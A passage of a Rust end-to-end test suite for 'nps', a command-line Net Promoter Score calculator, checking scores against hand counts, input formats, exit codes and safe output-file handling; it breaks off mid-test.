//! End-to-end tests: the real `nps` binary on real files (fixtures/ and ../shared/data/).
//!
//! Every expected number comes from a hand count recorded in fixtures/README.md, from the
//! shared data's SOURCE.txt, or from the issue that specifies it.

use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use serde_json::Value;

#[path = "cli/closing.rs"]
mod closing;
#[path = "cli/contacts.rs"]
mod contacts;
#[path = "cli/context.rs"]
mod context;
#[path = "cli/findings.rs"]
mod findings;
#[path = "cli/hostile.rs"]
mod hostile;
#[path = "cli/inputs.rs"]
mod inputs;
#[path = "cli/plan.rs"]
mod plan;
#[path = "cli/report.rs"]
mod report;
#[path = "cli/resources.rs"]
mod resources;
#[path = "cli/review.rs"]
mod review;
#[path = "cli/scores.rs"]
mod scores;
#[path = "cli/settings.rs"]
mod settings;
#[path = "cli/shell.rs"]
mod shell;
#[path = "cli/themes.rs"]
mod themes;

/// One finished run of the binary, printable in full when an assertion fails.
struct Run {
    cmdline: String,
    status: i32,
    stdout: String,
    stderr: String,
}

impl std::fmt::Debug for Run {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "\n$ {}\n(cwd {})\nstatus: {}\n--- stdout ---\n{}\n--- stderr ---\n{}",
            self.cmdline,
            root().display(),
            self.status,
            self.stdout,
            self.stderr
        )
    }
}

impl Run {
    fn json(&self) -> Value {
        serde_json::from_str(&self.stdout)
            .unwrap_or_else(|e| panic!("stdout is not JSON ({e}): {self:?}"))
    }

    fn expect(&self, code: i32) -> &Self {
        assert_eq!(self.status, code, "unexpected exit status: {self:?}");
        self
    }
}

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn fixture(rel: &str) -> String {
    root().join("fixtures").join(rel).display().to_string()
}

fn shared(rel: &str) -> String {
    let p = root().join("../shared/data").join(rel);
    assert!(p.exists(), "shared data missing: {}", p.display());
    p.display().to_string()
}

fn nps_with_stdin(args: &[&str], stdin: Option<&[u8]>) -> Run {
    nps_full(args, stdin, &[])
}

fn nps_full(args: &[&str], stdin: Option<&[u8]>, env: &[(&str, &str)]) -> Run {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_nps"));
    cmd.args(args).current_dir(root());
    isolate(&mut cmd);
    cmd.envs(env.iter().copied());
    cmd.stdin(if stdin.is_some() {
        Stdio::piped()
    } else {
        Stdio::null()
    });
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = cmd.spawn().expect("the nps binary runs");
    if let Some(bytes) = stdin {
        let mut pipe = child.stdin.take().unwrap();
        // A run refused before it reads its input (a usage error) may exit, closing the pipe,
        // before the bytes are written: that is its answer, not the test's failure.
        if let Err(e) = pipe.write_all(bytes) {
            assert_eq!(e.kind(), std::io::ErrorKind::BrokenPipe, "{e}");
        }
    }
    let out = child.wait_with_output().unwrap();
    Run {
        cmdline: format!(
            "{}nps {}",
            env.iter()
                .map(|(k, v)| format!("{k}={v} "))
                .collect::<String>(),
            args.join(" ")
        ),
        status: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// Settings must come from the test alone: no `NPS_*` variable of the caller's, and no user
/// settings file (`XDG_CONFIG_HOME` points where none is). A project `nps.toml` in the
/// repository or above it would still be found: `settings::no_settings_file_is_in_the_way` says
/// so plainly instead of letting other tests fail mysteriously.
fn isolate(cmd: &mut Command) {
    for (var, _) in std::env::vars_os() {
        if var.to_string_lossy().starts_with("NPS_") {
            cmd.env_remove(var);
        }
    }
    cmd.env("XDG_CONFIG_HOME", root().join("target/no-user-settings"));
}

fn nps(args: &[&str]) -> Run {
    nps_with_stdin(args, None)
}

fn score_json(file: &str, extra: &[&str]) -> Value {
    let mut args = vec!["score", file, "--format", "json"];
    args.extend_from_slice(extra);
    let run = nps(&args);
    run.expect(0);
    run.json()
}

fn close(actual: &Value, expected: f64, tolerance: f64) {
    let a = actual
        .as_f64()
        .unwrap_or_else(|| panic!("not a number: {actual}"));
    assert!(
        (a - expected).abs() <= tolerance,
        "{a} is not within {tolerance} of {expected}"
    );
}

// ---------------------------------------------------------------- real exports (shared/data)

#[test]
fn carpentries_post_workshop_survey_without_flags() {
    // SOURCE.txt and the issue: score column LikelyToRecommend, n 889, NPS 48.37, 78 blanks.
    // By hand from the column: promoters 150 + 351 = 501, passives 106 + 211 = 317,
    // detractors 2+4+6+5+21+33 = 71; NPS = (501 − 71)/889 = 48.3689…
    let j = score_json(
        &shared("carpentries-assessment/20180908_post_clean.csv"),
        &[],
    );
    assert_eq!(j["sources"][0]["score_column"], "LikelyToRecommend");
    assert_eq!(j["n"], 889);
    close(&j["nps"], 48.37, 0.005);
    assert_eq!(j["promoters"]["count"], 501);
    assert_eq!(j["passives"]["count"], 317);
    assert_eq!(j["detractors"]["count"], 71);
    assert_eq!(j["rows"]["read"], 967);
    assert_eq!(j["rows"]["blank"], 78);
    assert_eq!(j["rows"]["invalid"], 0);
}

#[test]
fn formbricks_export_with_question_text_headers() {
    // Issue: n = 7, NPS 42.86, six partial responses blank. By hand: 7,7,8,8,9,9,10 → 3/7.
    let j = score_json(&shared("formbricks-hub/sample_feedback.redacted.csv"), &[]);
    assert_eq!(j["n"], 7);
    close(&j["nps"], 42.86, 0.005);
    assert_eq!(j["rows"]["blank"], 6);
    assert_eq!(
        j["sources"][0]["score_column"],
        "10. How likely would you recommend Formbricks to people you know?"
    );
}

#[test]
fn qualtrics_sample_without_nps_question() {
    let file = shared("ropensci-qualtRics/sample.csv");
    let run = nps(&["inspect", &file, "--format", "json"]);
    let j = run.expect(0).json();
    let s = &j["sources"][0];
    assert_eq!(s["preset"], "qualtrics");
    assert_eq!(s["header_rows"], 3);
    assert_eq!(s["rows"]["read"], 1);
    assert_eq!(s["roles"][0]["role"], "score");
    assert_eq!(s["roles"][0]["decided_by"], "not_found");

    let table = nps(&["inspect", &file]);
    assert!(
        table.expect(0).stdout.contains("preset: qualtrics"),
        "{table:?}"
    );

    let score = nps(&["score", &file]);
    score.expect(3);
    assert!(score.stderr.contains("no NPS score column"), "{score:?}");
    assert!(score.stderr.contains("sample.csv"), "{score:?}");
}

#[test]
fn carpentries_longterm_survey_placeholder_headers() {
    // SOURCE.txt: score column Likely-To-Recommend, 74 blanks; issue 4 states n 402, NPS 36.32.
    let j = score_json(
        &shared("carpentries-assessment/longterm_October2017.csv"),
        &[],
    );
    assert_eq!(j["sources"][0]["score_column"], "Likely-To-Recommend");
    assert_eq!(j["n"], 402);
    close(&j["nps"], 36.32, 0.005);
    assert_eq!(j["rows"]["blank"], 74);
}

// ---------------------------------------------------------------- platform presets (fixtures)

#[test]
fn qualtrics_fixture_excludes_preview_test_and_spam() {
    let j = score_json(&fixture("presets/qualtrics_nps.csv"), &[]);
    assert_eq!(j["sources"][0]["preset"], "qualtrics");
    assert_eq!(j["sources"][0]["score_column"], "Q1");
    assert_eq!(j["n"], 12);
    assert_eq!(
        (
            j["detractors"]["count"].clone(),
            j["passives"]["count"].clone(),
            j["promoters"]["count"].clone()
        ),
        (3.into(), 3.into(), 6.into())
    );
    close(&j["nps"], 25.0, 1e-9);
    assert_eq!(j["rows"]["blank"], 3);
    let excluded: Vec<(String, u64)> = j["rows"]["excluded"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["reason"].as_str().unwrap().to_string(),
                e["rows"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        excluded,
        vec![
            ("Qualtrics spam (Status 8)".to_string(), 1),
            ("Qualtrics survey preview (Status 1)".to_string(), 2),
            ("Qualtrics survey test (Status 2)".to_string(), 1),
        ]
    );
    assert_eq!(j["rows"]["read"], 19);
}

#[test]
fn surveymonkey_typeform_and_delighted_fixtures() {
    // (file, preset, n, D, P, R, NPS, blank) from fixtures/README.md.
    let cases = [
        (
            "presets/surveymonkey_nps.csv",
            "surveymonkey",
            11,
            3,
            2,
            6,
            300.0 / 11.0,
            1,
        ),
        (
            "presets/typeform_nps.csv",
            "typeform",
            9,
            2,
            2,
            5,
            100.0 / 3.0,
            1,
        ),
        (
            "presets/delighted_api.json",
            "delighted",
            10,
            3,
            3,
            4,
            10.0,
            0,
        ),
    ];
    for (file, preset, n, d, p, r, score, blank) in cases {
        let j = score_json(&fixture(file), &[]);
        assert_eq!(j["sources"][0]["preset"], preset, "{file}");
        assert_eq!(j["n"], n, "{file}");
        assert_eq!(j["detractors"]["count"], d, "{file}");
        assert_eq!(j["passives"]["count"], p, "{file}");
        assert_eq!(j["promoters"]["count"], r, "{file}");
        close(&j["nps"], score, 1e-9);
        assert_eq!(j["rows"]["blank"], blank, "{file}");
    }
}

// ---------------------------------------------------------------- one set of responses, every form

fn without_sources(mut j: Value) -> Value {
    j.as_object_mut().unwrap().remove("sources");
    j
}

#[test]
fn every_input_form_gives_identical_json() {
    let baseline = without_sources(score_json(&fixture("formats/responses.csv"), &[]));
    // fixtures/README.md: 22 rows, n 20, D/P/R 5/6/9, NPS 20.00, 2 blanks.
    assert_eq!(baseline["n"], 20);
    close(&baseline["nps"], 20.0, 1e-9);
    assert_eq!(baseline["rows"]["blank"], 2);
    assert_eq!(baseline["rows"]["read"], 22);
    for file in [
        "formats/responses_semicolon_bom.csv",
        "formats/responses_cp1252.csv",
        "formats/responses.tsv",
        "formats/responses.json",
        "formats/responses.ndjson",
        "formats/responses.parquet",
        "formats/responses.csv.gz",
        "formats/responses.csv.zst",
    ] {
        let j = without_sources(score_json(&fixture(file), &[]));
        assert_eq!(j, baseline, "{file} differs from responses.csv");
    }
    for file in [
        "formats/responses.csv",
        "formats/responses.ndjson",
        "formats/responses.csv.gz",
        "formats/responses.csv.zst",
        "formats/responses_cp1252.csv",
        "formats/responses.parquet",
        "formats/responses.json",
    ] {
        let bytes = std::fs::read(fixture(file)).unwrap();
        let run = nps_with_stdin(&["score", "-", "--format", "json"], Some(&bytes));
        assert_eq!(
            without_sources(run.expect(0).json()),
            baseline,
            "stdin {file}"
        );
    }
}

#[test]
fn inspect_reports_encoding_delimiter_and_roles() {
    let j = nps(&[
        "inspect",
        &fixture("formats/responses_cp1252.csv"),
        "--format",
        "json",
    ])
    .expect(0)
    .json();
    let s = &j["sources"][0];
    assert_eq!(s["encoding"]["name"], "windows-1252");
    assert_eq!(s["delimiter"], ",");
    let roles: Vec<(String, String)> = s["roles"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["role"].as_str().unwrap().into(),
                r["column"].as_str().unwrap_or("").into(),
            )
        })
        .collect();
    assert!(
        roles.contains(&("score".into(), "score".into())),
        "{roles:?}"
    );
    assert!(
        roles.contains(&("date".into(), "submitted_at".into())),
        "{roles:?}"
    );
    assert!(
        roles.contains(&("respondent_id".into(), "customer_id".into())),
        "{roles:?}"
    );
    assert!(
        roles.contains(&("comment".into(), "comment".into())),
        "{roles:?}"
    );

    let j = nps(&[
        "inspect",
        &fixture("formats/responses_semicolon_bom.csv"),
        "--format",
        "json",
    ])
    .expect(0)
    .json();
    assert_eq!(j["sources"][0]["delimiter"], ";");
    assert_eq!(j["sources"][0]["encoding"]["bom"], true);
}

#[test]
fn several_files_are_concatenated_and_each_keeps_its_accounting() {
    let a = fixture("formats/responses.csv");
    let b = fixture("presets/qualtrics_nps.csv");
    let j = nps(&["score", &a, &b, "--format", "json"]).expect(0).json();
    // 20 + 12 responses; promoters 9 + 6 = 15, detractors 5 + 3 = 8 → NPS 100·7/32.
    assert_eq!(j["n"], 32);
    close(&j["nps"], 700.0 / 32.0, 1e-9);
    assert_eq!(j["sources"].as_array().unwrap().len(), 2);
    assert_eq!(j["sources"][1]["rows"]["used"], 12);
    assert_eq!(j["rows"]["read"], 22 + 19);
}

// ---------------------------------------------------------------- the --min gate

#[test]
fn min_gate_exit_codes_and_output() {
    let file = fixture("formats/responses.csv"); // NPS exactly 20
    let below = nps(&["score", &file, "--min", "20.5"]);
    below.expect(1);
    assert!(
        below.stdout.contains("NPS 20.0"),
        "results are printed before failing: {below:?}"
    );
    assert!(below.stderr.contains("below --min 20.5"), "{below:?}");
    nps(&["score", &file, "--min", "20"]).expect(0);
    nps(&["score", &file, "--min", "-10"]).expect(0);
    nps(&["score", &file, "--min=-100"]).expect(0);
    let j = nps(&["score", &file, "--min", "30", "--format", "json"])
        .expect(1)
        .json();
    assert_eq!(j["gate"]["passed"], false);
    for bad in ["101", "-100.5", "thirty"] {
        let run = nps(&["score", &file, "--min", bad]);
        run.expect(2);
        assert!(run.stderr.contains("--min"), "{run:?}");
    }
}

// ---------------------------------------------------------------- bad input

#[test]
fn bad_inputs_exit_3_with_a_message_naming_file_and_row() {
    // (fixture, words the message must contain)
    let cases: [(&str, &[&str]); 9] = [
        ("bad/empty.csv", &["empty.csv", "is empty"]),
        (
            "bad/header_only.csv",
            &["header_only.csv", "no valid responses", "0 read"],
        ),
        ("bad/binary.csv", &["binary.csv", "binary data"]),
        (
            "bad/ragged.csv",
            &["ragged.csv, line 4", "6 fields where the header has 4"],
        ),
        (
            "bad/unterminated_quote.csv",
            &["unterminated_quote.csv, line 3", "never closed"],
        ),
        (
            "bad/all_blank.csv",
            &["all_blank.csv", "no valid responses", "5 blank"],
        ),
        (
            "bad/workbook.xlsx",
            &["workbook.xlsx", "Excel workbook", "CSV"],
        ),
        (
            "bad/ambiguous.csv",
            &["ambiguous.csv", "--score-col", "nps", "recommend_score"],
        ),
        (
            "bad/does_not_exist.csv",
            &["does_not_exist.csv", "no such file"],
        ),
    ];
    for (file, words) in cases {
        let run = nps(&["score", &fixture(file)]);
        run.expect(3);
        for w in words {
            assert!(run.stderr.contains(w), "{file}: {w:?} missing {run:?}");
        }
        assert!(!run.stderr.contains("panicked"), "{run:?}");
        assert!(
            run.stdout.is_empty(),
            "no partial results on stdout: {run:?}"
        );
    }
    let dir = nps(&["score", &fixture("bad")]);
    dir.expect(3);
    assert!(dir.stderr.contains("is a directory"), "{dir:?}");
}

#[test]
fn invalid_scores_are_set_aside_with_their_lines_or_fail_under_strict() {
    let file = fixture("bad/invalid_scores.csv");
    let run = nps(&["score", &file, "--format", "json"]);
    let j = run.expect(0).json();
    // fixtures/README.md: 8 valid (2/2/4, NPS 25), invalid on lines 4, 7, 10, 12.
    assert_eq!(j["n"], 8);
    close(&j["nps"], 25.0, 1e-9);
    assert_eq!(j["rows"]["invalid"], 4);
    let found: Vec<(u64, String)> = j["rows"]["invalid_examples"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| {
            (
                v["location"]["number"].as_u64().unwrap(),
                v["value"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert_eq!(
        found,
        vec![
            (4, "11".into()),
            (7, "-1".into()),
            (10, "ten".into()),
            (12, "7.5".into())
        ]
    );
    assert!(
        run.stderr.contains("line 10, column \"score\": \"ten\""),
        "{run:?}"
    );

    let strict = nps(&["score", &file, "--strict"]);
    strict.expect(3);
    assert!(
        strict
            .stderr
            .contains("invalid_scores.csv, line 4, column \"score\": \"11\""),
        "{strict:?}"
    );
}

#[test]
fn explicit_score_col_resolves_ambiguity() {
    let file = fixture("bad/ambiguous.csv");
    let j = score_json(&file, &["--score-col", "nps"]);
    close(&j["nps"], 25.0, 1e-9);
    let j = score_json(&file, &["--score-col", "recommend_score"]);
    close(&j["nps"], 0.0, 1e-9);
    let missing = nps(&["score", &file, "--score-col", "rating"]);
    missing.expect(3);
    assert!(
        missing.stderr.contains("column \"rating\": no such column"),
        "{missing:?}"
    );
}

// ---------------------------------------------------------------- output formats and writing

#[test]
fn every_output_format() {
    let file = fixture("formats/responses.csv");
    let table = nps(&["score", &file]);
    table.expect(0);
    assert!(
        table.stdout.starts_with("NPS 20.0 (95% CI "),
        "headline carries the interval and n: {table:?}"
    );
    assert!(table.stdout.contains("; n = 20)"), "{table:?}");

    let csv = nps(&["score", &file, "--format", "csv"]);
    let lines: Vec<&str> = csv.expect(0).stdout.lines().collect();
    assert_eq!(lines.len(), 2, "{csv:?}");
    assert!(
        lines[0].starts_with("n,nps,ci_low,ci_high,detractors,passives,promoters,detractors_pct"),
        "{csv:?}"
    );
    assert!(lines[1].starts_with("20,20.0,"), "{csv:?}");

    let md = nps(&["score", &file, "--format", "md", "--decimals", "2"]);
    assert!(
        md.expect(0)
            .stdout
            .contains("| promoters (9–10) | 9 | 45.00% |"),
        "{md:?}"
    );

    let j = score_json(&file, &["--ci", "wald", "--confidence", "90%"]);
    assert_eq!(j["schema_version"], 1);
    assert_eq!(j["interval"]["method"], "wald");
    close(&j["interval"]["confidence"], 0.90, 1e-12);
    // By hand: p₊ = 0.45, p₋ = 0.25, V = 0.70 − 0.04 = 0.66, SE = √(0.66/20) = 0.181659;
    // z(0.90) = 1.644854 → 20 ± 29.880.
    close(&j["interval"]["low"], 20.0 - 29.880, 0.001);
    close(&j["interval"]["high"], 20.0 + 29.880, 0.001);
}

#[test]
fn output_file_is_written_whole_and_never_over_an_input() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("result.json");
    let file = fixture("formats/responses.csv");
    let run = nps(&[
        "score",
        &file,
        "--format",
        "json",
        "-o",
        out.to_str().unwrap(),
    ]);
    assert!(run.expect(0).stdout.is_empty(), "{run:?}");
    let written: Value = serde_json::from_str(&std::fs::read_to_string(&out).unwrap()).unwrap();
    assert_eq!(written["n"], 20);

    let copy = dir.path().join("in.csv");
    std::fs::copy(&file, &copy).unwrap();
    let before = std::fs::read(&copy).unwrap();
    let clash = nps(&[
        "score",
        copy.to_str().unwrap(),
        "-o",
        copy.to_str().unwrap(),
    ]);
    clash.expect(2);
    assert_eq!(
        std::fs::read(&copy).unwrap(),
        before,
        "the input is untouched"
    );

    let unwritable = nps(&["score", &file, "-o", "/nonexistent-dir/result.json"]);
    unwritable.expect(4);
    assert!(
        unwritable
            .stderr
            .contains("cannot write /nonexistent-dir/result.json"),
        "{unwritable:?}"
    );
}

// ------------------------------------------------- -o onto devices, FIFOs, symlinks, stdin (F3, F4)

/// The CSV `score` writes for the 20-response fixture, to compare outputs against.
fn reference_csv() -> String {
    let run = nps(&[
        "score",
        &fixture("formats/responses.csv"),
        "-q",
        "-f",
        "csv",
    ]);
    run.expect(0).stdout.clone()
}

#[cfg(unix)]
#[test]
fn output_to_a_fifo_writes_through_it_and_leaves_the_fifo() {
    use std::os::unix::fs::FileTypeExt;
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("out.fifo");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    // The reader: `cat` in its own process, so that a FIFO replaced under it (the old bug) leaves
    // only a process to kill, not a thread blocked forever in open().
    let mut reader = Command::new("cat")
        .arg(&fifo)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = reader.stdout.take().unwrap();
    let collect = std::thread::spawn(move || {
        let mut text = String::new();
        std::io::Read::read_to_string(&mut stdout, &mut text).map(|_| text)
    });
    let file = fixture("formats/responses.csv");
    let run = nps(&[
        "score",
        &file,
        "-q",
        "-f",
        "csv",
        "-o",
        fifo.to_str().unwrap(),
    ]);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while reader.try_wait().unwrap().is_none() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let reader_done = reader.try_wait().unwrap().is_some();
    if !reader_done {
        reader.kill().unwrap();
        reader.wait().unwrap();
    }
    let received = collect.join().unwrap().unwrap();
    let kind = std::fs::symlink_metadata(&fifo).unwrap().file_type();
    run.expect(0);
    assert!(kind.is_fifo(), "the FIFO was replaced by {kind:?}");
    assert!(reader_done, "the reader never got an end of file");
    assert_eq!(received, reference_csv());
}

#[cfg(unix)]
#[test]
fn output_to_dev_null_dev_full_and_dev_stdout_writes_through() {
    use std::os::unix::fs::FileTypeExt;
    let file = fixture("formats/responses.csv");
    let is_char_device = |p: &str| {
        std::fs::symlink_metadata(p)
            .unwrap()
            .file_type()
            .is_char_device()
    };

    let null = nps(&["score", &file, "-q", "-f", "csv", "-o", "/dev/null"]);
    null.expect(0);
    assert!(null.stdout.is_empty(), "{null:?}");
    assert!(is_char_device("/dev/null"), "/dev/null was replaced");

    let full = nps(&["score", &file, "-q", "-f", "csv", "-o", "/dev/full"]);
    full.expect(4);
    assert!(
        full.stderr.contains("cannot write /dev/full")
            && full.stderr.contains("No space left on device"),
        "{full:?}"
    );
    assert!(is_char_device("/dev/full"), "/dev/full was replaced");

    let stdout = nps(&["score", &file, "-q", "-f", "csv", "-o", "/dev/stdout"]);
    stdout.expect(0);
    assert_eq!(stdout.stdout, reference_csv(), "{stdout:?}");
    assert!(std::fs::symlink_metadata("/dev/stdout")
        .unwrap()
        .file_type()
        .is_symlink());
}

#[cfg(unix)]
#[test]
fn output_through_a_symlink_updates_its_target_and_keeps_the_link() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("www")).unwrap();
    let target = dir.path().join("www/report.csv");
    std::fs::write(&target, "old report\n").unwrap();
    let link = dir.path().join("link.csv");
    std::os::unix::fs::symlink("www/report.csv", &link).unwrap(); // relative, as `ln -s` makes
    let file = fixture("formats/responses.csv");
    let run = nps(&[
        "score",
        &file,
        "-q",
        "-f",
        "csv",
        "-o",
        link.to_str().unwrap(),
    ]);
    run.expect(0);
    assert!(
        std::fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink(),
        "the link was replaced"
    );
    assert_eq!(
        std::fs::read_link(&link).unwrap(),
        PathBuf::from("www/report.csv")
    );
    assert_eq!(std::fs::read_to_string(&target).unwrap(), reference_csv());
    let litter: Vec<_> = std::fs::read_dir(dir.path().join("www"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(litter.len(), 1, "temporary files left: {litter:?}");
}

#[test]
fn output_onto_the_file_behind_stdin_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let victim = dir.path().join("victim.csv");
    std::fs::copy(fixture("formats/responses.csv"), &victim).unwrap();
    let before = std::fs::read(&victim).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_nps"))
        .args(["score", "-", "-q", "-o", victim.to_str().unwrap()])
        .current_dir(root())
        .stdin(std::fs::File::open(&victim).unwrap())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("is also an input"), "{stderr}");
    assert_eq!(
        std::fs::read(&victim).unwrap(),
        before,
        "the input is untouched"
    );

    // stdin from another file: writing is fine.
    let other = dir.path().join("other.csv");
    std::fs::copy(fixture("formats/responses.csv"), &other).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_nps"))
        .args([
            "score",
            "-",
            "-q",
            "-f",
            "csv",
            "-o",
            victim.to_str().unwrap(),
        ])
        .current_dir(root())
        .stdin(std::fs::File::open(&other).unwrap())
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), reference_csv());
}

// ---------------------------------------------------------------- polars' environment (F2)

#[test]
fn polars_variables_polars_cannot_work_with_are_ignored_with_a_warning() {
    let csv = fixture("formats/responses.csv");
    let parquet = fixture("formats/responses.parquet");
    let typed = fixture("formats/typed.parquet");
    // The trend of typed.parquet goes through polars' streaming Parquet reader, which divided by
    // a zero chunk size and was then reported as a damaged file.
    let cases: [&[&str]; 3] = [
        &["score", &csv, "-f", "json"],
        &["score", &parquet, "-f", "json"],
        &["trend", &typed, "--every", "month", "-f", "json"],
    ];
    for args in cases {
        let clean = nps(args);
        clean.expect(0);
        for var in ["POLARS_MAX_THREADS", "POLARS_STREAMING_CHUNK_SIZE"] {
            for value in ["0", "99999999999999999999999"] {
                let run = nps_full(args, None, &[(var, value), ("RUST_BACKTRACE", "0")]);
                run.expect(0);
                assert_eq!(run.stdout, clean.stdout, "{run:?}");
                assert!(
                    run.stderr
                        .contains(&format!("nps: warning: {var}=\"{value}\""))
                        && !run.stderr.contains("panicked")
                        && !run.stderr.contains("damaged"),
                    "{run:?}"
                );
            }
        }
    }
}

#[test]
fn every_command_is_deterministic_in_every_format() {
    let post = shared("carpentries-assessment/20180908_post_clean.csv");
    let longterm = shared("carpentries-assessment/longterm_October2017.csv");
    let before = fixture("paired/before.csv");
    let after = fixture("paired/after.csv");
    let example = fixture("example.csv");
    let followup = fixture("followup/responses.csv");
    let risk = fixture("risk/fr.csv");
    let commands: [Vec<&str>; 10] = [
        vec!["score", &post],
        vec!["segment", &longterm, "--by", "Country,Position"],
        vec!["trend", &post, "--every", "month", "--rolling", "90d"],
        vec!["compare", &post, "--split-date", "2017-07-01"],
        vec!["compare", &before, &after, "--paired"],
        vec!["inspect", &longterm],
        vec![
            "check", &example, "--by", "plan", "--min", "0", "--min-n", "12",
        ],
        vec![
            "followup",
            &followup,
            "--as-of",
            "2025-11-20",
            "--by",
            "plan",
        ],
        vec![
            "followup",
            &risk,
            "--as-of",
            "2025-11-20",
            "--crm",
            "hubspot",
        ],
        vec![
            "risk",
            &risk,
            "--as-of",
            "2025-11-20",
            "--value",
            "arr",
            "--by",
            "plan",
        ],
    ];
    for command in &commands {
        let formats: &[&str] = if command[0] == "check" {
            &["table", "json", "csv", "markdown", "junit", "github"]
        } else if command.contains(&"--crm") {
            &["csv"]
        } else {
            &["table", "json", "csv", "markdown"]
        };
        for format in formats.iter().copied() {
            let mut args = command.clone();
            args.extend(["--format", format]);
            let a = nps(&args);
            let b = nps(&args);
            a.expect(0);
            assert!(!a.stdout.is_empty(), "{a:?}");
            assert_eq!(a.stdout, b.stdout, "{args:?}");
        }
    }
}

#[test]
fn a_closed_pipe_downstream_is_success() {
    let mut child = Command::new(env!("CARGO_BIN_EXE_nps"))
        .args([
            "inspect",
            &shared("carpentries-assessment/longterm_October2017.csv"),
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take()); // the reader goes away before nps writes
    let out = child.wait_with_output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_closed_pipe_downstream_is_success_on_a_stream_too() {
    let mut child = Command::new(env!("CARGO_BIN_EXE_nps"))
        .args(["segment", "-", "--by", "plan"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take()); // the reader goes away before nps writes
    let mut stdin = child.stdin.take().unwrap();
    let text = long_export();
    let writer = std::thread::spawn(move || stdin.write_all(text.as_bytes()));
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn one_test_per_exit_code() {
    let file = fixture("formats/responses.csv");
    nps(&["score", &file]).expect(0);
    nps(&["--version"]).expect(0);
    nps(&["score", "--help"]).expect(0);
    nps(&["score", &file, "--min", "50"]).expect(1);
    nps(&["score", &file, "--format", "yaml"]).expect(2);
    nps(&["score"]).expect(2);
    nps(&["score", &fixture("bad/missing.csv")]).expect(3);
    nps(&["score", &file, "-o", "/proc/version/cannot"]).expect(4);
}

#[test]
fn a_file_of_only_invalid_scores_exits_3_and_names_them() {
    let run = nps_with_stdin(&["score", "-"], Some(b"id,score\n1,11\n2,ten\n"));
    run.expect(3);
    assert!(run.stderr.contains("no valid responses"), "{run:?}");
    assert!(
        run.stderr
            .contains("<stdin>, line 2, column \"score\": \"11\""),
        "{run:?}"
    );
    assert!(
        run.stderr
            .contains("<stdin>, line 3, column \"score\": \"ten\""),
        "{run:?}"
    );
}

// ---------------------------------------------------------------- nps segment

fn segment_json(file: &str, extra: &[&str]) -> Value {
    let mut args = vec!["segment", file, "--format", "json"];
    args.extend_from_slice(extra);
    let run = nps(&args);
    run.expect(0);
    run.json()
}

/// Segment counts add back to the overall counts, category by category.
fn assert_segments_add_up(j: &Value) {
    let segments = j["segments"].as_array().unwrap();
    assert_eq!(segments.len() as u64, j["segments_total"].as_u64().unwrap());
    let n: u64 = segments.iter().map(|s| s["n"].as_u64().unwrap()).sum();
    assert_eq!(n, j["overall"]["n"].as_u64().unwrap());
    for category in ["detractors", "passives", "promoters"] {
        let sum: u64 = segments
            .iter()
            .map(|s| s[category]["count"].as_u64().unwrap())
            .sum();
        assert_eq!(
            sum,
            j["overall"][category]["count"].as_u64().unwrap(),
            "{category}"
        );
    }
}

#[test]
fn carpentries_longterm_segments_add_back_to_the_overall() {
    // Issue 4: `--by Country` and `--by Position` rows add back to n 402, NPS 36.32.
    let file = shared("carpentries-assessment/longterm_October2017.csv");
    for by in ["Country", "Position"] {
        let j = segment_json(&file, &["--by", by]);
        assert_eq!(j["overall"]["n"], 402, "{by}");
        close(&j["overall"]["nps"], 36.32, 0.005);
        assert_segments_add_up(&j);
    }
    // Blank countries form their own segment, shown as null in JSON and (blank) in tables.
    let j = segment_json(&file, &["--by", "Country"]);
    assert!(j["segments"]
        .as_array()
        .unwrap()
        .iter()
        .any(|s| s["values"]["Country"].is_null()));
    let table = nps(&["segment", &file, "--by", "Country"]);
    assert!(table.expect(0).stdout.contains("(blank)"), "{table:?}");
}

#[test]
fn example_segments_by_plan_match_hand_counts() {
    let j = segment_json(&fixture("example.csv"), &["--by", "plan", "--sort", "name"]);
    let rows: Vec<(String, u64)> = j["segments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            (
                s["values"]["plan"].as_str().unwrap().into(),
                s["n"].as_u64().unwrap(),
            )
        })
        .collect();
